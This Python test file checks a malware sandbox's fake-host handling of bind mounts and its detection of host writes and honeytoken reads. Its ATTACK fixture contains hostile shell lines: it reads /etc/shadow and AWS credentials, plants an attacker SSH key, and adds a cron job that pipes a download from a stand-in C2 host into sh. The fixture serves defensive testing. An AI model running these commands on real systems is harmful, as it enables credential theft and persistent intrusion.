"""Host binds (`-v /:/host`) are served from a fake host tree: the sample reads its planted
secrets and writes its files, the real host is never reachable, and nothing is left behind."""

from __future__ import annotations

import dataclasses
import os
from pathlib import Path

import pytest

from detonate.detect.correlations.honeytokens import Honeytokens
from detonate.detect.correlations.host_mounts import HostMounts
from detonate.detect.interface import RunView
from detonate.model.events import FileOpenedForRead, FileOpenedForWrite
from detonate.model.filesystem import Rootfs
from detonate.model.runtime import EndReason, HostMount
from detonate.sandbox.fake_host import HOST_NAME, build_fake_host

from .busybox_image import FAST, PROGRESS, image_running
from .test_containment import assert_nothing_left

ATTACK = """
cat /host/etc/shadow > /dev/null
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEattackerkey attacker@c2.test' \
  >> /host/root/.ssh/authorized_keys
echo '* * * * * root wget -qO- http://c2.test/x | sh' > /host/etc/cron.d/update
cat /host/root/.aws/credentials > /dev/null
echo ---listing
ls -aR /host
echo ---hostname
cat /host/etc/hostname
ls -l /var/run/docker.sock
"""


def tree_names(root: Path) -> set[str]:
    names = set()
    for _, dirnames, filenames in os.walk(root):
        names.update(dirnames, filenames)
    return names


def test_serve_resolves_every_source_inside_the_tree(tmp_path: Path) -> None:
    tree, rootfs = tmp_path / "tree", tmp_path / "rootfs"
    tree.mkdir()
    rootfs.mkdir()
    host = build_fake_host(tree)
    binds = (
        "/:/host",
        "/../../../etc:/escape-up",  # ".." stops at the tree's root, as at the real one
        "/srv/data:/data:ro",  # missing: created as a directory
        "/var/run/docker.sock:/var/run/docker.sock",
        "named-volume:/vol",  # not a host path: left out
        "/etc:/proc/sys",  # would cover the sandbox's own mounts: left out
        "/etc:/",
    )
    served = host.serve(binds, rootfs)
    sources = [Path(m["source"]) for m in served.mounts]
    assert all(s == tree or s.is_relative_to(tree) for s in sources)
    assert [m["destination"] for m in served.mounts] == [
        "/host",
        "/escape-up",
        "/data",
        "/var/run/docker.sock",
    ]
    assert sources[1] == tree / "etc" and (tree / "srv" / "data").is_dir()
    assert served.mounts[2]["options"][:2] == ["rbind", "ro"]
    assert served.host_mounts[0] == HostMount("/", "/host", False)
    tokens = {t.path: t for t in served.tokens}
    assert tokens["/host/etc/shadow"].kind == "shadow"
    assert tokens["/escape-up/shadow"].marker == tokens["/host/etc/shadow"].marker
    assert tokens["/host/etc/shadow"].marker in (tree / "etc" / "shadow").read_text()
    assert {
        "/host/root/.ssh/id_rsa",
        "/host/root/.kube/config",
        "/host/home/ubuntu/.aws/credentials",
    } <= set(tokens)
    assert served.watched["/host/etc/shadow"] == "shadow"


@pytest.mark.sandbox
def test_a_run_with_host_binds_sees_only_the_fake_host(
    busybox_rootfs: Rootfs, tmp_path: Path
) -> None:
    from detonate.sandbox.run import detonate

    real_keys = Path("/root/.ssh/authorized_keys")
    before = real_keys.read_bytes() if real_keys.exists() else None
    options = dataclasses.replace(
        FAST, binds=("/:/host", "/var/run/docker.sock:/var/run/docker.sock")
    )
    result = detonate(
        image_running("/bin/sh", "-c", ATTACK), busybox_rootfs, options, tmp_path, PROGRESS
    )
    assert result.run.ended_by == EndReason.EXITED, result.run
    assert result.artifacts_dir is not None
    output = (result.artifacts_dir.parent / "output.log").read_text()

    # What /host showed is the fake tree (plus what the sample wrote), never the real root.
    listing = output.split("---listing\n")[1].split("---hostname\n")
    names = {
        name
        for line in listing[0].splitlines()
        if line and not line.endswith(":")
        for name in line.split()
    } - {".", ".."}
    expected = tmp_path / "expected"
    expected.mkdir()
    build_fake_host(expected)
    assert {"shadow", "authorized_keys", "docker.sock", "update"} <= names
    assert names <= tree_names(expected) | {"update"}, names - tree_names(expected)
    assert listing[1].splitlines()[0] == HOST_NAME
    assert not Path("/etc/cron.d/update").exists()
    assert (real_keys.read_bytes() if real_keys.exists() else None) == before

    reads = {e.path: e for e in result.events if isinstance(e, FileOpenedForRead)}
    assert reads["/host/etc/shadow"].honeytoken == "shadow" and reads["/host/etc/shadow"].succeeded
    assert reads["/host/root/.aws/credentials"].honeytoken == "aws-credentials"
    writes = {e.path for e in result.events if isinstance(e, FileOpenedForWrite) and e.succeeded}
    assert {"/host/root/.ssh/authorized_keys", "/host/etc/cron.d/update"} <= writes
    assert result.host_mounts[0] == HostMount("/", "/host", False)

    view = RunView(
        events=result.events,
        processes=result.processes,
        honeytokens=result.honeytokens,
        host_mounts=result.host_mounts,
    )
    (written,) = HostMounts().detect(view)
    assert written.rule_id == "host-filesystem-write" and written.technique == "T1611"
    described = {e.path: e.description for e in written.evidence}
    assert "the host's /root/.ssh/authorized_keys" in described["/host/root/.ssh/authorized_keys"]
    assert "/host/etc/cron.d/update" in described
    read = next(f for f in Honeytokens().detect(view) if f.rule_id == "honeytoken-read")
    assert {"/host/etc/shadow", "/host/root/.aws/credentials"} <= {e.path for e in read.evidence}
    assert_nothing_left(result)
